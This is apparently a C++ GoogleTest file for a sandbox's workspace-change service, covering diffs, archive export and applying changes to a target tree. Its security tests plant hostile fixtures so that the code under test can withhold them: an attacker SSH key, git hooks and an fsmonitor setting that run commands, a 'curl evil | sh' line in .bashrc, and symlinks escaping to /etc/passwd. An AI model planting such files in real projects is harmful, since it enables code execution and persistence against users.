// workspace_changes_test.cpp: the creation manifest, change sets, unified
// diffs, archive export (read back with libarchive) and apply_changes, on
// real trees made by copy_tree.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <isb/core/config.hpp>
#include <isb/core/workspace_changes.hpp>
#include <isb/core/workspace_service.hpp>

#include <archive.h>
#include <archive_entry.h>
#include <stdlib.h>
#include <sys/stat.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <vector>

namespace isb {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Pair;
using ::testing::UnorderedElementsAre;

class TempDir {
 public:
  TempDir() {
    char tmpl[] = "/tmp/isb-changes-test-XXXXXX";
    char* p = mkdtemp(tmpl);
    EXPECT_NE(p, nullptr);
    path_ = p ? fs::canonical(p).string() : "";
  }
  ~TempDir() {
    std::error_code ec;
    if (!path_.empty()) fs::remove_all(path_, ec);
  }
  std::string operator/(const std::string& rel) const { return path_ + "/" + rel; }

 private:
  std::string path_;
};

void put(const std::string& path, const std::string& text) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary | std::ios::trunc) << text;
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

// path -> content ("->target" for symlinks) of every file in an archive.
std::map<std::string, std::string> read_archive(const std::string& path) {
  std::map<std::string, std::string> out;
  struct archive* a = archive_read_new();
  archive_read_support_format_all(a);
  archive_read_support_filter_all(a);
  EXPECT_EQ(archive_read_open_filename(a, path.c_str(), 10240), ARCHIVE_OK) << archive_error_string(a);
  struct archive_entry* e;
  while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
    std::string name = archive_entry_pathname(e);
    if (archive_entry_filetype(e) == AE_IFDIR) continue;
    if (archive_entry_filetype(e) == AE_IFLNK) {
      out[name] = std::string("->") + archive_entry_symlink(e);
      continue;
    }
    std::string data;
    char buf[4096];
    la_ssize_t n;
    while ((n = archive_read_data(a, buf, sizeof buf)) > 0) data.append(buf, static_cast<size_t>(n));
    out[name] = data;
  }
  archive_read_free(a);
  return out;
}

std::vector<std::pair<std::string, std::string>> summary(const std::vector<FileChange>& changes) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& c : changes) out.emplace_back(c.path, change_kind_name(c.kind));
  return out;
}

class ChangesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    src.source = tmp / "src";
    src.workspace = tmp / "ws";
    src.manifest = tmp / "meta/manifest.json";
    put(src.source + "/a.txt", "one\ntwo\nthree\n");
    put(src.source + "/b.txt", "bee\n");
    put(src.source + "/keep/k.txt", "same\n");
    put(src.source + "/.ssh/id_rsa", "KEY");
    fs::create_symlink("a.txt", src.source + "/link");
    ASSERT_TRUE(copy_tree(src.source, src.workspace).ok());
    auto n = record_manifest(src.workspace, src.manifest);
    ASSERT_TRUE(n.ok()) << n.error().message;
    EXPECT_EQ(*n, 4);  // a.txt, b.txt, keep/k.txt, link (.ssh never copied)
  }
  void edit() {
    put(src.workspace + "/a.txt", "one\nTWO\nthree\n");
    put(src.workspace + "/new/n.txt", "fresh\n");
    fs::remove(src.workspace + "/b.txt");
    fs::remove(src.workspace + "/link");
    fs::create_symlink("keep/k.txt", src.workspace + "/link");
  }
  TempDir tmp;
  ChangeSources src;
};

TEST_F(ChangesTest, UntouchedWorkspaceHasNoChanges) {
  auto c = compute_changes(src);
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_TRUE(c->empty());
}

TEST_F(ChangesTest, ReportsAddedModifiedDeletedSortedByPath) {
  edit();
  auto c = compute_changes(src);
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_THAT(summary(*c), ElementsAre(Pair("a.txt", "modified"), Pair("b.txt", "deleted"),
                                       Pair("link", "modified"), Pair("new/n.txt", "added")));
}

TEST_F(ChangesTest, TouchedButUnchangedFileIsNotModified) {
  fs::last_write_time(src.workspace + "/keep/k.txt", fs::file_time_type::clock::now() + std::chrono::hours(1));
  auto c = compute_changes(src);
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_TRUE(c->empty());
}

TEST_F(ChangesTest, ChmodIsAModification) {
  fs::permissions(src.workspace + "/b.txt", fs::perms::owner_exec, fs::perm_options::add);
  auto c = compute_changes(src);
  ASSERT_TRUE(c.ok());
  EXPECT_THAT(summary(*c), ElementsAre(Pair("b.txt", "modified")));
}

TEST_F(ChangesTest, DiffHasUnifiedDiffsAgainstTheSource) {
  edit();
  auto d = workspace_diff(src, {});
  ASSERT_TRUE(d.ok()) << d.error().message;
  EXPECT_EQ(d->at("summary").at("added").as_int64(), 1);
  EXPECT_EQ(d->at("summary").at("modified").as_int64(), 2);
  EXPECT_EQ(d->at("summary").at("deleted").as_int64(), 1);
  const auto& files = d->at("files").as_array();
  ASSERT_EQ(files.size(), 4u);
  EXPECT_EQ(files[0].at("diff").as_string(),
            "--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n");
  EXPECT_EQ(files[1].at("diff").as_string(), "--- a/b.txt\n+++ b/b.txt\n@@ -1,1 +0,0 @@\n-bee\n");
  EXPECT_EQ(files[2].at("type").as_string(), "symlink");
  EXPECT_EQ(files[2].at("old_target").as_string(), "a.txt");
  EXPECT_EQ(files[2].at("target").as_string(), "keep/k.txt");
  EXPECT_EQ(files[3].at("diff").as_string(), "--- a/new/n.txt\n+++ b/new/n.txt\n@@ -0,0 +1,1 @@\n+fresh\n");
}

TEST_F(ChangesTest, DiffSaysWhenTheOriginalIsNoLongerAvailable) {
  put(src.workspace + "/a.txt", "changed in workspace\n");
  put(src.source + "/a.txt", "changed in source too, longer\n");
  auto d = workspace_diff(src, {});
  ASSERT_TRUE(d.ok()) << d.error().message;
  const auto& f = d->at("files").as_array().at(0).as_object();
  EXPECT_EQ(f.at("path").as_string(), "a.txt");
  EXPECT_FALSE(f.contains("diff"));
  EXPECT_EQ(f.at("diff_note").as_string(),
            "the original is no longer available: the source changed since the workspace was created");
}

TEST_F(ChangesTest, MissingManifestIsAClearError) {
  fs::remove(src.manifest);
  auto c = compute_changes(src);
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.error().code, ErrorCode::kFailedPrecondition);
  EXPECT_THAT(c.error().message, HasSubstr("creation manifest"));
}

TEST(UnifiedDiffTest, SeparatesDistantHunksAndKeepsContext) {
  std::string a, b;
  for (int i = 1; i <= 20; ++i) {
    a += "l" + std::to_string(i) + "\n";
    b += (i == 2 ? std::string("X") : i == 18 ? std::string("Y") : "l" + std::to_string(i)) + "\n";
  }
  EXPECT_EQ(unified_diff(a, b, "f"),
            "--- a/f\n+++ b/f\n"
            "@@ -1,5 +1,5 @@\n l1\n-l2\n+X\n l3\n l4\n l5\n"
            "@@ -15,6 +15,6 @@\n l15\n l16\n l17\n-l18\n+Y\n l19\n l20\n");
  EXPECT_EQ(unified_diff(a, a, "f"), "");
}

TEST(UnifiedDiffTest, MarksMissingFinalNewline) {
  EXPECT_EQ(unified_diff("a\n", "a", "f"),
            "--- a/f\n+++ b/f\n@@ -1,1 +1,1 @@\n-a\n+a\n\\ No newline at end of file\n");
}

TEST_F(ChangesTest, ExportChangesOnlyTarGzRoundTrips) {
  edit();
  auto r = export_archive(src, "tar.gz", true, tmp / "exports/x.tar.gz");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->at("entries").as_int64(), 3);
  EXPECT_EQ(r->at("size_bytes").as_int64(), static_cast<int64_t>(fs::file_size(tmp / "exports/x.tar.gz")));
  ASSERT_EQ(r->at("deleted").as_array().size(), 1u);
  EXPECT_EQ(r->at("deleted").as_array()[0].as_string(), "b.txt");
  EXPECT_THAT(read_archive(tmp / "exports/x.tar.gz"),
              UnorderedElementsAre(Pair("a.txt", "one\nTWO\nthree\n"), Pair("link", "->keep/k.txt"),
                                   Pair("new/n.txt", "fresh\n")));
  EXPECT_FALSE(fs::exists(tmp / "exports/x.tar.gz.partial"));
}

TEST_F(ChangesTest, ExportWholeWorkspaceZipRoundTrips) {
  edit();
  auto r = export_archive(src, "zip", false, tmp / "exports/x.zip");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_THAT(read_archive(tmp / "exports/x.zip"),
              UnorderedElementsAre(Pair("a.txt", "one\nTWO\nthree\n"), Pair("keep/k.txt", "same\n"),
                                   Pair("link", "->keep/k.txt"), Pair("new/n.txt", "fresh\n")));
  auto bad = export_archive(src, "rar", false, tmp / "exports/x.rar");
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().message, "format 'rar' is unknown; use tar.gz or zip");
}

TEST_F(ChangesTest, ApplyChangesMakesTargetEqualToWorkspace) {
  edit();
  const std::string target = tmp / "target";
  ASSERT_TRUE(copy_tree(src.source, target).ok());
  auto r = apply_changes_to(src, target);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->at("written_count").as_int64(), 3);
  EXPECT_EQ(r->at("deleted_count").as_int64(), 1);
  EXPECT_EQ(slurp(target + "/a.txt"), "one\nTWO\nthree\n");
  EXPECT_EQ(slurp(target + "/new/n.txt"), "fresh\n");
  EXPECT_FALSE(fs::exists(target + "/b.txt"));
  EXPECT_EQ(fs::read_symlink(target + "/link"), "keep/k.txt");
  EXPECT_EQ(slurp(target + "/keep/k.txt"), "same\n");
}

// Applied files belong to the target's owner (a user's project dir stays
// theirs when the server runs as root), and setuid/setgid bits a workspace
// file carries never travel to the target.
TEST_F(ChangesTest, ApplyGivesFilesToTheTargetsOwnerWithoutSetuidBits) {
  if (::geteuid() != 0) GTEST_SKIP() << "chown needs root";
  edit();
  ASSERT_EQ(::chmod((src.workspace + "/new/n.txt").c_str(), 06755), 0);
  const std::string target = tmp / "target";
  ASSERT_TRUE(copy_tree(src.source, target).ok());
  ASSERT_EQ(::chown(target.c_str(), 4321, 4321), 0);
  // Named in include: the new executable bit travels (setuid never does).
  ASSERT_TRUE(apply_changes_to(src, target, {"new/n.txt"}).ok());
  struct stat st {};
  ASSERT_EQ(::lstat((target + "/new/n.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 4321u);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  ASSERT_EQ(::lstat((target + "/new").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 4321u);
}

TEST_F(ChangesTest, ApplyReplacesSymlinksInTargetInsteadOfWritingThrough) {
  edit();
  const std::string target = tmp / "target";
  put(tmp / "victim.txt", "VICTIM");
  fs::create_directories(target);
  fs::create_symlink(tmp / "victim.txt", target + "/a.txt");
  fs::create_directory_symlink(tmp / "elsewhere", target + "/new");
  auto r = apply_changes_to(src, target);
  ASSERT_FALSE(r.ok()) << "wrote through a symlinked directory in the target";
  EXPECT_EQ(r.error().code, ErrorCode::kPermissionDenied);
  EXPECT_EQ(slurp(tmp / "victim.txt"), "VICTIM");
  EXPECT_FALSE(fs::exists(tmp / "elsewhere/n.txt"));
  fs::remove(target + "/new");
  auto ok = apply_changes_to(src, target);
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  EXPECT_FALSE(fs::is_symlink(target + "/a.txt"));
  EXPECT_EQ(slurp(target + "/a.txt"), "one\nTWO\nthree\n");
  EXPECT_EQ(slurp(tmp / "victim.txt"), "VICTIM");
}


// Issue 13, findings 2 and 5: what sandboxed code writes into a workspace
// cannot reach a credential, and VCS metadata, new top-level dotfiles,
// symlinks leading out and new executable bits wait for the client to name
// them.
TEST_F(ChangesTest, ApplyNeverWritesSecretsAndWithholdsVcsDotfilesOutwardLinksAndExecBits) {
  src.secret_paths = SandboxConfig{}.secret_paths;
  const std::string target = tmp / "target";
  ASSERT_TRUE(copy_tree(src.source, target).ok());
  put(src.workspace + "/a.txt", "changed\n");
  put(src.workspace + "/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker");
  put(src.workspace + "/.env.local", "TOKEN=x");
  put(src.workspace + "/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n");
  put(src.workspace + "/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n");
  ::chmod((src.workspace + "/.git/hooks/post-checkout").c_str(), 0755);
  put(src.workspace + "/.bashrc", "curl evil | sh\n");
  put(src.workspace + "/run.sh", "#!/bin/sh\necho hi\n");
  ::chmod((src.workspace + "/run.sh").c_str(), 0755);
  fs::create_symlink("/etc/passwd", src.workspace + "/escape");
  fs::create_symlink("../../outside", src.workspace + "/keep/up");
  auto r = apply_changes_to(src, target);
  ASSERT_TRUE(r.ok()) << r.error().message;
  std::vector<std::string> written;
  for (const auto& v : r->at("written").as_array()) written.emplace_back(v.as_string());
  EXPECT_THAT(written, ElementsAre("a.txt", "run.sh"));
  std::map<std::string, std::string> withheld;
  for (const auto& v : r->at("withheld").as_array()) {
    withheld[std::string(v.at("path").as_string()) + " " + std::string(v.at("change").as_string())] =
        std::string(v.at("reason").as_string());
  }
  EXPECT_THAT(withheld, UnorderedElementsAre(Pair(".ssh/authorized_keys added", HasSubstr("secret")),
                                             Pair(".env.local added", HasSubstr("secret")),
                                             Pair(".git/config added", HasSubstr("version-control")),
                                             Pair(".git/hooks/post-checkout added", HasSubstr("version-control")),
                                             Pair(".bashrc added", HasSubstr("new dotfile")),
                                             Pair("escape added", HasSubstr("outside the target")),
                                             Pair("keep/up added", HasSubstr("outside the target")),
                                             Pair("run.sh executable bit", HasSubstr("executable bit"))));
  EXPECT_FALSE(fs::exists(target + "/.ssh"));
  EXPECT_FALSE(fs::exists(target + "/.git"));
  EXPECT_FALSE(fs::exists(target + "/.bashrc"));
  EXPECT_FALSE(fs::is_symlink(target + "/escape"));
  struct stat st {};
  ASSERT_EQ(::stat((target + "/run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);

  // Named in include, the withheld kinds go through; secrets never do.
  auto again = apply_changes_to(src, target, {".git", ".bashrc", "run.sh", "escape", ".ssh", ".env.local"});
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_EQ(slurp(target + "/.git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
  EXPECT_TRUE(fs::is_symlink(target + "/escape"));
  ASSERT_EQ(::stat((target + "/run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  EXPECT_FALSE(fs::exists(target + "/.ssh"));
  EXPECT_FALSE(fs::exists(target + "/.env.local"));
}

// Deleting a secret in the workspace never deletes it in the target.
TEST_F(ChangesTest, ApplyNeverDeletesSecretsInTheTarget) {
  src.secret_paths = {"secret.txt"};
  put(src.source + "/secret.txt", "mine");
  const std::string target = tmp / "target";
  ASSERT_TRUE(copy_tree(src.source, target, {}, {}).ok());  // target has it
  fs::remove(src.workspace + "/b.txt");
  put(src.manifest, "");  // re-record with secret.txt present in the workspace, then delete it
  put(src.workspace + "/secret.txt", "mine");
  ASSERT_TRUE(record_manifest(src.workspace, src.manifest).ok());
  fs::remove(src.workspace + "/secret.txt");
  auto r = apply_changes_to(src, target);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(slurp(target + "/secret.txt"), "mine");
  ASSERT_EQ(r->at("withheld").as_array().size(), 1u);
  EXPECT_EQ(r->at("withheld").as_array()[0].at("change"), "deletion");
}

// Issue 13, finding 4: file-sized work is streamed; a sparse file keeps its
// holes when applied and becomes a sparse entry when exported.
TEST_F(ChangesTest, SparseFilesAreAppliedWithTheirHolesAndExportedAsSparseEntries) {
  constexpr off_t kSize = off_t{256} << 20;
  {
    std::ofstream(src.workspace + "/sparse.bin");
    ASSERT_EQ(::truncate((src.workspace + "/sparse.bin").c_str(), kSize), 0);
    std::fstream f(src.workspace + "/sparse.bin", std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(kSize / 2);
    f << "MIDDLE";
  }
  const std::string target = tmp / "target";
  ASSERT_TRUE(copy_tree(src.source, target).ok());
  auto r = apply_changes_to(src, target);
  ASSERT_TRUE(r.ok()) << r.error().message;
  struct stat st {};
  ASSERT_EQ(::stat((target + "/sparse.bin").c_str(), &st), 0);
  EXPECT_EQ(st.st_size, kSize);
  EXPECT_LT(st.st_blocks * 512, 1 << 20) << "the holes were filled";
  std::ifstream in(target + "/sparse.bin", std::ios::binary);
  in.seekg(kSize / 2);
  std::string mid(6, '\0');
  in.read(mid.data(), 6);
  EXPECT_EQ(mid, "MIDDLE");

  auto x = export_archive(src, "tar.gz", true, tmp / "exports/sparse.tar.gz");
  ASSERT_TRUE(x.ok()) << x.error().message;
  EXPECT_LT(x->at("size_bytes").as_int64(), 1 << 20);
  struct archive* a = archive_read_new();
  archive_read_support_format_all(a);
  archive_read_support_filter_all(a);
  ASSERT_EQ(archive_read_open_filename(a, (tmp / "exports/sparse.tar.gz").c_str(), 10240), ARCHIVE_OK);
  struct archive_entry* e;
  bool seen = false;
  while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
    if (std::string(archive_entry_pathname(e)) != "sparse.bin") continue;
    seen = true;
    EXPECT_EQ(archive_entry_size(e), kSize);
    EXPECT_GT(archive_entry_sparse_count(e), 0);
    const void* buf;
    size_t len;
    la_int64_t off;
    std::string found;
    while (archive_read_data_block(a, &buf, &len, &off) == ARCHIVE_OK) {
      if (len && off <= kSize / 2 && kSize / 2 < off + static_cast<la_int64_t>(len)) {
        found.assign(static_cast<const char*>(buf) + (kSize / 2 - off), 6);
      }
    }
    EXPECT_EQ(found, "MIDDLE");
  }
  archive_read_free(a);
  EXPECT_TRUE(seen);
}

}  // namespace
}  // namespace isb
